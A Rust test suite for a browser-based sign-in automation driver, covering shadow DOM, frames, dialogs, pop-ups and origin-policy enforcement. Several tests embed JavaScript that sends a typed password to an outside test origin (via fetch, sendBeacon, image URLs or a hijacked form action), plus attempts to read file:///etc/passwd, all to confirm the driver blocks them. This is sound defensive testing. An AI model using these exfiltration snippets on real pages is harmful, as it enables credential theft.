//! What only a browser can do, and what it must not do.

use axum::http::header;
use entity::FailureCode as F;

use super::house::{Login, login_at, policy_tools};
use super::pages::{APP, Pages, html};
use crate::domain::Secret;
use crate::domain::sign_in::Action;
use crate::domain::snapshot::PageSnapshot;
use crate::driver::{self, Driver};

const BROWSER: entity::Driver = entity::Driver::Browser;
/// The same form, drawn in the ways that scripts have.
const FORM: &str = "<h1>Sign in</h1><form method=post action=/done><label>User name <input name=user></label>\
    <label>Password <input name=pw type=password></label><button>Sign in</button></form>";

async fn opened(pages: &Pages, path: &str) -> (Box<dyn Driver>, PageSnapshot) {
    let mut driver =
        driver::start(BROWSER, policy_tools(&pages.url("/"), "http://127.0.0.1:*"), None).unwrap();
    driver.perform(&Action::Open(pages.url(path))).await.unwrap();
    let page = driver.snapshot().await.unwrap();
    (driver, page)
}

async fn fill(driver: &mut dyn Driver, page: &PageSnapshot, value: &str) -> Result<(), driver::Error> {
    let input = page.inputs.iter().find(|input| input.kind == "password").unwrap().uid;
    driver.perform(&Action::Fill { input, value: Secret::new(value.to_owned()) }).await
}

async fn press(driver: &mut dyn Driver, page: &PageSnapshot) -> Result<(), driver::Error> {
    let button = page.buttons.first().unwrap();
    driver.perform(&Action::Submit { form: button.form, button: Some(button.uid) }).await
}

#[tokio::test]
async fn an_app_in_one_page_is_signed_in_to_and_its_token_is_kept() {
    let strict = "default-src 'none'; script-src 'self'; connect-src 'self'";
    let page = |body: &str| {
        let mut page = html(body);
        page.0.push((header::CONTENT_SECURITY_POLICY, strict));
        page
    };
    let script = (vec![(header::CONTENT_TYPE, "text/javascript")], APP.to_owned());
    let body = "<title>App</title><div id=app></div><script src=/app.js></script>";
    let pages = Pages::start(vec![("/login", page(body)), ("/app.js", script)]).await;
    let tools = policy_tools(&pages.url("/"), "http://127.0.0.1:*");
    let mut login = login_at(BROWSER, tools.clone(), pages.url("/login")).await;

    login.types(&["ann", "wrong"]).await;
    assert_eq!(login.verdict(), (Some(F::CredentialsRejected), Some("That password is wrong.")));
    login.types(&["ann", "right"]).await;
    assert!(login.is_signed_in(), "{:?}", login.machine.reasons());

    let session = login.session().await;
    assert_eq!(session.driver(), BROWSER);
    drop(login);
    let mut again = driver::start(session.driver(), tools, Some(&session)).unwrap();
    again.perform(&Action::Open(pages.url("/login"))).await.unwrap();
    assert_eq!(again.find("#who").await.unwrap().first().map(|found| found.text.as_str()), Some("ann"));
    assert_eq!(pages.asked_with("GET / "), 0, "the site is not asked when a session is opened");
}

#[tokio::test]
async fn forms_in_shadows_and_frames_are_seen_and_typed_into() {
    let shadow = format!(
        "<x-login></x-login><script>customElements.define('x-login', class extends HTMLElement {{\
         connectedCallback() {{ this.attachShadow({{mode: 'open'}}).innerHTML = `{FORM}`; }} }})</script>"
    );
    let framed = "<h1>Shop</h1><iframe src=/form width=600 height=400></iframe>";
    let pages = Pages::start(vec![
        ("/shadow", html(&shadow)),
        ("/framed", html(framed)),
        ("/form", html(FORM)),
        ("/done", html("<h1>Thank you</h1>")),
    ])
    .await;
    for path in ["/shadow", "/framed"] {
        let (mut driver, page) = opened(&pages, path).await;
        fill(driver.as_mut(), &page, path).await.unwrap();
        press(driver.as_mut(), &page).await.unwrap();
        assert_eq!(pages.asked_with(&format!("pw={}", path.replace('/', "%2F"))), 1, "{path}");
    }
}

#[tokio::test]
async fn dialogs_are_answered_and_their_words_are_kept() {
    let page = format!(
        "{FORM}<script>document.forms[0].onsubmit = (event) => {{ event.preventDefault();\
         alert('Wrong password, sorry.'); }}</script>"
    );
    let pages = Pages::start(vec![("/login", html(&page))]).await;
    let tools = policy_tools(&pages.url("/"), "http://127.0.0.1:*");
    let mut login = login_at(BROWSER, tools, pages.url("/login")).await;
    login.types(&["ann", "wrong"]).await;
    assert_eq!(login.verdict(), (Some(F::CredentialsRejected), Some("Wrong password, sorry.")));
}

#[tokio::test]
async fn a_pop_up_becomes_the_page_and_a_file_does_not() {
    let opener = "<button onclick=\"window.open('/popup')\">Sign in</button>";
    let mut file = html("secret,file");
    file.0.push((header::CONTENT_DISPOSITION, "attachment; filename=a.csv"));
    let pages = Pages::start(vec![("/opener", html(opener)), ("/popup", html(FORM)), ("/file", file)]).await;
    let (mut driver, page) = opened(&pages, "/opener").await;
    press(driver.as_mut(), &page).await.unwrap();
    assert_eq!(driver.snapshot().await.unwrap().url.path(), "/popup");
    let error = driver.perform(&Action::Open(pages.url("/file"))).await.unwrap_err();
    assert_eq!(error.code(), F::SiteError, "{error:?}");
}

#[tokio::test]
async fn a_page_that_never_rests_is_looked_at_when_its_time_is_over() {
    let page =
        format!("{FORM}<p id=n></p><script>setInterval(() => {{ n.textContent = Date.now() }}, 50)</script>");
    let pages = Pages::start(vec![("/login", html(&page))]).await;
    let (_driver, page) = opened(&pages, "/login").await;
    assert_eq!(page.inputs.len(), 2);
}

#[tokio::test]
async fn no_request_leaves_for_an_address_that_policy_forbids() {
    let inside = Pages::at("127.0.0.2", vec![("/x", html("inside"))]).await;
    let page = format!(
        "<h1>Page</h1><img src='{0}/x?img'><iframe src='{0}/x?frame'></iframe><script>fetch('{0}/x?fetch', {{mode: 'no-cors'}});\
         new WebSocket('{1}/x'); navigator.sendBeacon('{0}/x?beacon', 'a');\
         new Worker(URL.createObjectURL(new Blob([\"fetch('{0}/x?worker', {{mode: 'no-cors'}})\"])));\
         const peer = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{2}'}}]}}); peer.createDataChannel('x');\
         peer.createOffer().then((offer) => peer.setLocalDescription(offer));</script>",
        inside.origin,
        inside.origin.replace("http", "ws"),
        inside.origin.trim_start_matches("http://"),
    );
    let socket = tokio::net::UdpSocket::bind(inside.origin.trim_start_matches("http://")).await.unwrap();
    let pages = Pages::start(vec![("/page", html(&page))]).await;

    let (mut driver, _) = opened(&pages, "/page").await;
    let refused = driver.perform(&Action::Open(inside.url("/x"))).await.unwrap_err();

    assert_eq!((refused.code(), inside.asked_with("")), (F::OriginNotAllowed, 0), "{refused:?}");
    let mut packet = [0; 64];
    assert!(socket.try_recv(&mut packet).is_err(), "no packet of WebRTC either");
    for url in ["file:///etc/passwd", "chrome://version", "data:text/html,x"] {
        let error = driver.perform(&Action::Open(url.parse().unwrap())).await.unwrap_err();
        assert_eq!(error.code(), F::MethodUnsupported, "{url} {error:?}");
    }
}

#[tokio::test]
async fn nothing_typed_is_sent_to_strangers_by_a_script() {
    let stranger = Pages::at("127.0.0.2", vec![("/x", html("x"))]).await;
    for send in [
        "fetch(to, {method: 'POST', mode: 'no-cors', body: JSON.stringify({a: secret})})",
        "navigator.sendBeacon(to, new URLSearchParams({a: secret}))",
        "new Image().src = to + '?a=' + encodeURIComponent(secret)",
        "fetch(to, {method: 'POST', mode: 'no-cors', body: btoa(secret)})",
        "document.forms[0].action = to; document.forms[0].submit()",
    ] {
        let script = format!(
            "<script>document.forms[0].onsubmit = (event) => {{ event.preventDefault(); const to = '{}/x';\
             const secret = document.forms[0].pw.value; {send} }}</script>",
            stranger.origin
        );
        let pages = Pages::start(vec![("/login", html(&format!("{FORM}{script}")))]).await;
        let tools = policy_tools(&pages.url("/"), "http://127.0.0.0/8:*");
        let mut driver = driver::start(BROWSER, tools, None).unwrap();
        driver.perform(&Action::Open(pages.url("/login"))).await.unwrap();
        let page = driver.snapshot().await.unwrap();
        fill(driver.as_mut(), &page, "geheim & co").await.unwrap();
        let sent = press(driver.as_mut(), &page).await;
        assert!(matches!(sent, Err(driver::Error::OriginNotAllowed(_))), "{send} {sent:?}");
        assert_eq!(stranger.asked_with("geheim"), 0, "{send}");
    }
}

#[tokio::test]
async fn a_field_that_is_hidden_or_gone_or_locked_takes_nothing() {
    let hide = "<script>setTimeout(() => {document.forms[0].pw.CHANGE}, 1500)</script>";
    for change in ["style.display = 'none'", "readOnly = true", "remove()"] {
        let page = format!("{FORM}{}", hide.replace("CHANGE", change));
        let pages = Pages::start(vec![("/login", html(&page))]).await;
        let (mut driver, page) = opened(&pages, "/login").await;
        tokio::time::sleep(std::time::Duration::from_secs(2)).await;
        let error = fill(driver.as_mut(), &page, "right").await.unwrap_err();
        assert!(matches!(error, driver::Error::NoElement(_)), "{change} {error:?}");
    }
}

#[tokio::test]
async fn a_login_without_scripts_is_not_begun_where_the_form_is_theirs() {
    let body = "<title>App</title><div id=app></div><script src=/app.js></script>";
    let pages = Pages::start(vec![("/login", html(body))]).await;
    let tools = policy_tools(&pages.url("/"), "http://127.0.0.1:*");
    let login: Login = login_at(entity::Driver::Http, tools, pages.url("/login")).await;
    assert_eq!(login.failure(), F::MethodUnsupported);
}
